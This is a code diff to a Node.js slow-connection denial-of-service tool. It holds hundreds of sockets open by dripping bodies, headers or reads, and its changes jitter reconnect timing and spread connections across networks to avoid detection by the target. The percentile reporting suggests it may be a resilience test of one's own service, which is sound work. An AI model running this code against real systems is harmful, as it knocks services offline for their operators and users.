@@ -15,7 +15,8 @@ const pause = (millis) => new Promise((next) => setTimeout(next, millis));
 const addresses = 250;
 /** So many handshakes at once; more would measure the attacker. */
 const opening = 50;
-const reopenAfterMillis = 5_000;
+/** Spread, as many handshakes at once would measure the attacker. */
+const reopenAfter = () => 2_500 + Math.random() * 5_000;
 
 /** Each from its own network: the service refuses addresses that were too slow for a minute. */
 const attacks = {
@@ -26,8 +27,8 @@ const attacks = {
     drip: ' ',
   },
   headers: { network: 1, begin: 'GET /api/v1/sessions/current HTTP/1.1\r\nHost: a\r\nX-Slow: ', drip: 'a' },
-  // Several, as the system takes the first ones from the service; further ones show that it has closed the connection.
-  responses: { network: 2, repeats: 20, againAfterMillis: 5_000 },
+  // Only who writes finds out that the service has closed the connection.
+  responses: { network: 2, pokeAfterMillis: 5_000 },
 };
 
 function percentile(sorted, share) {
@@ -36,9 +37,8 @@ function percentile(sorted, share) {
 
 /** Opens the connections again when the service closes them, in a thread of its own, until that is terminated. */
 function attack({ base, ca, insecure, count, bytesPerSecond, kind, file }) {
-  const { drip, network, repeats, againAfterMillis } = attacks[kind];
-  const get = `GET ${file} HTTP/1.1\r\nHost: a\r\n\r\n`;
-  const begin = attacks[kind].begin ?? get.repeat(repeats);
+  const { drip, network, pokeAfterMillis } = attacks[kind];
+  const begin = attacks[kind].begin ?? `GET ${file} HTTP/1.1\r\nHost: a\r\n\r\n`;
   const { hostname, port } = new URL(base);
   const secureContext = tls.createSecureContext({ ca });
   const sockets = new Set();
@@ -65,7 +65,7 @@ function attack({ base, ca, insecure, count, bytesPerSecond, kind, file }) {
         closed++;
         sockets.delete(socket);
         settled();
-        setTimeout(() => open(number), reopenAfterMillis);
+        setTimeout(() => open(number), reopenAfter());
       });
     });
   let turn = 0;
@@ -77,7 +77,7 @@ function attack({ base, ca, insecure, count, bytesPerSecond, kind, file }) {
       else socket.read(1);
     }
   }, 1_000);
-  if (againAfterMillis) setInterval(() => sockets.forEach((socket) => socket.write(get)), againAfterMillis);
+  if (pokeAfterMillis) setInterval(() => sockets.forEach((socket) => socket.write('G')), pokeAfterMillis);
   const report = () => parentPort.postMessage({ held: sockets.size, closed });
   setInterval(report, 200);
   const begun = async () => {
